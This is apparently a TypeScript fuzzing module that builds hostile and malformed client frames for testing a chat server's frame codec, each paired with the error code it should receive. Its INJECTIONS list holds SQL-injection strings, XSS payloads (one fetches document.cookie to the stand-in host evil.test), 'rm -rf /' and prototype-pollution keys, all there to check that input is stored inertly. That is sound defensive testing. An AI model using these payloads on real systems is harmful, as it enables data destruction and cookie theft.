// Generators of hostile client frames, each with the answer the protocol promises for it.
// Invalid frames carry the error code they must get; answers are valid but hostile in content
// (SQL, HTML, Markdown, control characters, prototype keys) and must be stored verbatim.
import type { FrameErrorCode } from "../supabase/functions/chat/codec/client_frame.ts";
import { stripInvisibleCharacters } from "../supabase/functions/_shared/wire/invisible_characters.ts";
import type { Prng } from "./prng.ts";

export type { FrameErrorCode };

export interface BadFrame {
  category: string;
  data: string | Uint8Array;
  expect: FrameErrorCode;
}

const MAX_FRAME_BYTES = 16_384;

/** Answers that must be stored and assembled exactly as typed, executed nowhere. */
export const INJECTIONS = [
  "'); drop table chat_sessions; --",
  "Robert'); delete from auth.users where ('1'='1",
  "1' or '1'='1",
  "$$; select pg_sleep(10); $$",
  "\\x27; copy (select '') to program 'id'; --",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=\"fetch('//evil.test/'+document.cookie)\">",
  "</textarea><svg onload=alert(1)>",
  "[click me](javascript:alert(1))",
  "![x](https://evil.test/track.png)",
  "# Heading injected\n\n---\n\n| a | b |\n|---|---|",
  "{{q1}} {{#if q2}}hidden{{/if}}",
  "${Deno.exit(1)} `rm -rf /`",
  '{"type":"session_complete","documentId":"00000000-0000-0000-0000-000000000000"}',
  "\u202eevil.exe\u202c and \u200bzero\u200dwidth",
  "line\u2028separator\u2029paragraph",
  "tab\tbell\u0007escape\u001b[31mred\u001b[0m del\u007f",
  "emoji 👩🏽‍⚖️ and 日本語 and עברית",
  "__proto__",
  "null",
];

/** A valid, hostile answer: an injection, random unicode, or a long text. */
export function hostileAnswer(prng: Prng): string {
  switch (prng.int(4)) {
    case 0:
    case 1:
      return prng.pick(INJECTIONS);
    case 2:
      return randomText(prng, prng.between(1, 200)).trim() || "x";
    default:
      return "a".repeat(prng.between(4_000, 5_000));
  }
}

/**
 * A hostile answer with the characters the chat refuses in any answer (bidi controls, zero-width
 * and control characters: _shared/wire/invisible_characters.ts) taken out, for frames that test
 * another refusal, which that one would otherwise answer first.
 */
export function visibleHostileAnswer(prng: Prng): string {
  return stripInvisibleCharacters(hostileAnswer(prng)).trim() || "x";
}

/** Extra keys that a valid frame may carry and the server must ignore. */
export function hostileExtras(prng: Prng): string {
  return prng.pick([
    "",
    ',"__proto__":{"content":"polluted","isAdmin":true}',
    ',"constructor":{"prototype":{"isAdmin":true}}',
    ',"role":"assistant","at":"1970-01-01T00:00:00Z","source":"ai"',
    `,"deep":${"[".repeat(1_000)}${"]".repeat(1_000)}`,
    ',"type2":"retry","sessionId":"00000000-0000-0000-0000-000000000000"',
  ]);
}

/** Text with any characters a JSON string can carry: controls, surrogate pairs, RTL, BMP. */
export function randomText(prng: Prng, length: number): string {
  let text = "";
  for (let i = 0; i < length; i++) {
    const kind = prng.int(10);
    if (kind < 5) text += String.fromCharCode(prng.between(0x20, 0x7e));
    else if (kind < 6) text += String.fromCharCode(prng.between(0x01, 0x1f));
    else if (kind < 8) text += String.fromCharCode(prng.between(0xa0, 0xd7ff));
    else if (kind < 9) text += String.fromCodePoint(prng.between(0x1f300, 0x1faff));
    else text += prng.pick(["'", '"', "\\", "<", ">", "&", "`", "$", "{", "}", "\n"]);
  }
  return text;
}

/** A valid user_message frame, as text, for a mutation to start from. */
function validFrame(prng: Prng): string {
  return prng.pick([
    `{"type":"user_message","content":${JSON.stringify(hostileAnswer(prng).slice(0, 300))}}`,
    `{"type":"ping","id":"p-${prng.int(1000)}"}`,
    `{"type":"retry"}`,
    `{"type":"user_message","content":"x","clientMessageId":"c-1","questionId":"q1"}`,
  ]);
}

const wrongValues = [
  "0",
  "-1.5e308",
  "true",
  "false",
  "null",
  "[]",
  '["a"]',
  "{}",
  '{"toString":"x"}',
  '""',
  '"   "',
];

/** Wrong values per field of every message type: all must get invalid_field. */
function wrongField(prng: Prng): string {
  const long = (n: number) => JSON.stringify("x".repeat(n));
  const cases: [string, string[]][] = [
    ['{"type":"user_message","content":%}', [
      ...wrongValues,
      long(5_001),
      '"a\\u0000b"',
      '"\\ud800 lone"',
      '"\\udc00"',
    ]],
    ['{"type":"user_message","content":"ok","clientMessageId":%}', [
      ...wrongValues.filter((v) => v !== '"   "'),
      long(129),
      '"\\u0000"',
      '"\\udfff"',
    ]],
    ['{"type":"user_message","content":"ok","questionId":%}', [
      ...wrongValues.filter((v) => v !== '"   "'),
      long(129),
      '"q\\u0000"',
    ]],
    ['{"type":"ping","id":%}', [...wrongValues.filter((v) => v !== '"   "'), long(129)]],
    ['{"type":"refresh_token","token":%}', [
      ...wrongValues.filter((v) => !v.startsWith('"')),
      '""',
    ]],
  ];
  const [shape, values] = prng.pick(cases);
  return shape.replace("%", prng.pick(values));
}

/** One invalid frame of a random category, with the error code it must get. */
export function badFrame(prng: Prng): BadFrame {
  const generators: (() => BadFrame)[] = [
    () => ({ category: "malformed_json", data: malformedJson(prng), expect: "invalid_json" }),
    () => ({
      category: "raw_control_character",
      data: `{"type":"user_message","content":"a${
        String.fromCharCode(prng.between(0x00, 0x1f))
      }b"}`,
      expect: "invalid_json",
    }),
    () => ({
      category: "not_an_object",
      data: prng.pick([
        "null",
        "true",
        "42",
        '"user_message"',
        "[]",
        '[{"type":"user_message","content":"x"}]',
        nested(prng.between(100, 8_000)),
      ]),
      expect: "invalid_message",
    }),
    () => ({
      category: "type_missing_or_not_a_string",
      data: prng.pick([
        "{}",
        '{"content":"x"}',
        '{"type":null,"content":"x"}',
        '{"type":1}',
        '{"type":["user_message"]}',
        '{"type":{"toString":"user_message"}}',
        '{"__proto__":{"type":"user_message"},"content":"x"}',
        '{"constructor":{"type":"ping"}}',
        `${'{"a":'.repeat(2_000)}1${"}".repeat(2_000)}`,
      ]),
      expect: "invalid_message",
    }),
    () => ({
      category: "unknown_type",
      data: JSON.stringify({
        type: prng.pick([
          "",
          "__proto__",
          "constructor",
          "toString",
          "hasOwnProperty",
          "USER_MESSAGE",
          "user_message ",
          "user_message\u0000",
          "session_complete",
          "next_question",
          randomText(prng, 30),
        ]),
        content: "x",
      }),
      expect: "unknown_type",
    }),
    () => ({ category: "wrong_field_type", data: wrongField(prng), expect: "invalid_field" }),
    () => ({
      category: "deep_nesting_in_a_field",
      data: `{"type":"user_message","content":${nested(prng.between(10, 7_000))}}`,
      expect: "invalid_field",
    }),
    () => ({
      category: "huge",
      data: prng.chance(0.5)
        ? JSON.stringify({ type: "user_message", content: "€".repeat(prng.between(5_500, 9_000)) })
        : JSON.stringify({ type: "ping", id: "x".repeat(prng.between(16_400, 400_000)) }),
      expect: "frame_too_large",
    }),
    () => ({
      category: "binary",
      data: prng.chance(0.5)
        ? new TextEncoder().encode('{"type":"user_message","content":"sent as binary"}')
        : prng.bytes(prng.between(1, 2_000)),
      expect: "binary_not_supported",
    }),
  ];
  const frame = prng.pick(generators)();
  if (typeof frame.data === "string" && frame.expect !== "frame_too_large") {
    if (new TextEncoder().encode(frame.data).byteLength > MAX_FRAME_BYTES) {
      return { ...frame, expect: "frame_too_large" };
    }
  }
  return frame;
}

/** A valid frame broken so that JSON.parse refuses it (checked, not assumed). */
function malformedJson(prng: Prng): string {
  for (;;) {
    const valid = validFrame(prng);
    const at = prng.int(valid.length);
    const broken = prng.pick([
      () => valid.slice(0, at),
      () =>
        valid.slice(0, at) + prng.pick(["{", "}", "[", "]", ",", ":", '"', "\\", "'"]) +
        valid.slice(at),
      () => valid.replaceAll('"', "'"),
      () => valid.replace(/}$/, ",}"),
      () => `\ufeff${valid}`,
      () => valid.replace(/}$/, ',"n":NaN}'),
      () => `// comment\n${valid}`,
      () => valid + valid,
      () => randomText(prng, prng.between(1, 100)),
    ])();
    try {
      JSON.parse(broken);
    } catch {
      return broken;
    }
  }
}

function nested(depth: number): string {
  return "[".repeat(depth) + "]".repeat(depth);
}

/** A v2 frame the codec refuses, with its error code and, where it is fixed, its message. */
export interface BadV2Frame extends BadFrame {
  message?: string | RegExp;
}

/**
 * A hostile `edit_answer` or `confirm` frame on a v2 connection: a field of the wrong type,
 * missing, empty, too long or unstorable. Each must get `invalid_field` (with the person's own
 * words for an answer too long or blank) and store nothing.
 */
export function badV2Frame(prng: Prng): BadV2Frame {
  const long = (n: number) => JSON.stringify("x".repeat(n));
  const invalid = (data: string, message?: string | RegExp): BadV2Frame => ({
    category: "v2_wrong_field",
    data,
    expect: "invalid_field",
    ...(message ? { message } : {}),
  });
  const ids = [
    ...wrongValues.filter((v) => v !== '"   "'),
    long(129),
    '"q\\u0000"',
    '"\\ud800"',
  ];
  const generators: (() => BadV2Frame)[] = [
    () => invalid(`{"type":"edit_answer","content":"x"}`, 'Field "questionId" must be a string'),
    () => invalid(`{"type":"edit_answer","questionId":"q1"}`, 'Field "content" must be a string'),
    () =>
      invalid(
        `{"type":"edit_answer","content":"x","questionId":${prng.pick(ids)}}`,
        /"questionId"/,
      ),
    () =>
      invalid(
        `{"type":"edit_answer","questionId":"q1","content":${
          prng.pick([...wrongValues.filter((v) => !v.startsWith('"')), '"a\\u0000b"', '"\\udc00"'])
        }}`,
        /"content"/,
      ),
    () => {
      const length = prng.between(5_001, 5_400);
      return invalid(
        JSON.stringify({ type: "edit_answer", questionId: "q1", content: "y".repeat(length) }),
        `Your answer is ${length.toLocaleString("en-US")} characters long; please keep it under ` +
          "5,000 characters",
      );
    },
    () =>
      invalid(
        JSON.stringify({
          type: "edit_answer",
          questionId: "q1",
          content: prng.pick(["", " ", "\n\t ", "\u00a0"]),
        }),
        "Please type an answer first",
      ),
    () =>
      invalid(
        `{"type":"edit_answer","questionId":"q1","content":"x","clientMessageId":${
          prng.pick(ids)
        }}`,
        /"clientMessageId"/,
      ),
    () => invalid(`{"type":"confirm","clientMessageId":${prng.pick(ids)}}`, /"clientMessageId"/),
    () => ({
      category: "v2_huge",
      data: JSON.stringify({
        type: prng.pick(["edit_answer", "confirm"]),
        questionId: "q1",
        content: "€".repeat(prng.between(5_500, 9_000)),
        clientMessageId: "x",
      }),
      expect: "frame_too_large",
    }),
  ];
  return prng.pick(generators)();
}

/** Question ids no interview asked: unknown, hostile, or of another template. */
export function unknownQuestionId(prng: Prng): string {
  return prng.pick([
    "q99",
    "Q1",
    "q1 ",
    "party_a_name",
    "__proto__",
    "constructor",
    "'; drop table chat_sessions; --",
    "<script>",
    randomText(prng, prng.between(1, 40)).trim() || "zz",
  ]);
}
